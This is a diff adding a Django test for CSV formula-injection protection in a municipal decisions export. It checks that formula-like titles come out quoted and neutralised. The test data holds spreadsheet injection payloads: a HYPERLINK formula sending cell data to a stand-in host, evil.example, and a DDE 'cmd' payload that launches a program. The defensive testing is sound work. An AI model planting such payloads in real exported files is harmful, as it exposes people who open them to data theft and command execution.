@@ -15,8 +15,10 @@ from django.core.management import call_command
 from django.test import TestCase, override_settings
 
 from decisions.dump import ARCHIVE_NAME, MANIFEST_NAME, write_archive
+from decisions.exports import FORMULA_STARTS
 from decisions.models import Paragraf
 from decisions.sitemaps import ParagrafSitemap
+from tests import factories
 from tests.factories import SEEDS, SJOBACKA
 
 ATOM = "{http://www.w3.org/2005/Atom}"
@@ -335,3 +337,34 @@ class CsvTests(TestCase):
         self.assertEqual(
             len(self.rows("/stockholms-stad/arende/1.1/2152/2016/?format=csv")), 2
         )
+
+
+class CsvFormulaTests(TestCase):
+    """A cell that a spreadsheet would run as a formula is written as text."""
+
+    def test_a_title_that_looks_like_a_formula_is_exported_as_text(self):
+        meeting = factories.make_meeting()
+        hostile = [
+            '=HYPERLINK("https://evil.example/?x="&A1;"Klicka")',
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1+1",
+            "\r=1+1",
+        ]
+        for title in hostile:
+            factories.make_paragraf(meeting=meeting, title=title, decision=title)
+        factories.make_paragraf(meeting=meeting, title="Budget 2025")
+        response = self.client.get(meeting.get_absolute_url() + "?format=csv")
+        body = b"".join(response.streaming_content).decode("utf-8-sig")
+        # Every field quoted, as OWASP advises.
+        self.assertTrue(body.startswith('"adress";"kommun";'))
+        header, *rows = csv.reader(io.StringIO(body, newline=""), delimiter=";")
+        title, decision = header.index("rubrik"), header.index("beslut")
+        titles = {row[title] for row in rows}
+        self.assertEqual(titles, {f"'{t}" for t in hostile} | {"Budget 2025"})
+        for row in rows:
+            for value in row:
+                self.assertFalse(value.startswith(FORMULA_STARTS), value)
+            if row[title] != "Budget 2025":
+                self.assertEqual(row[decision], row[title])
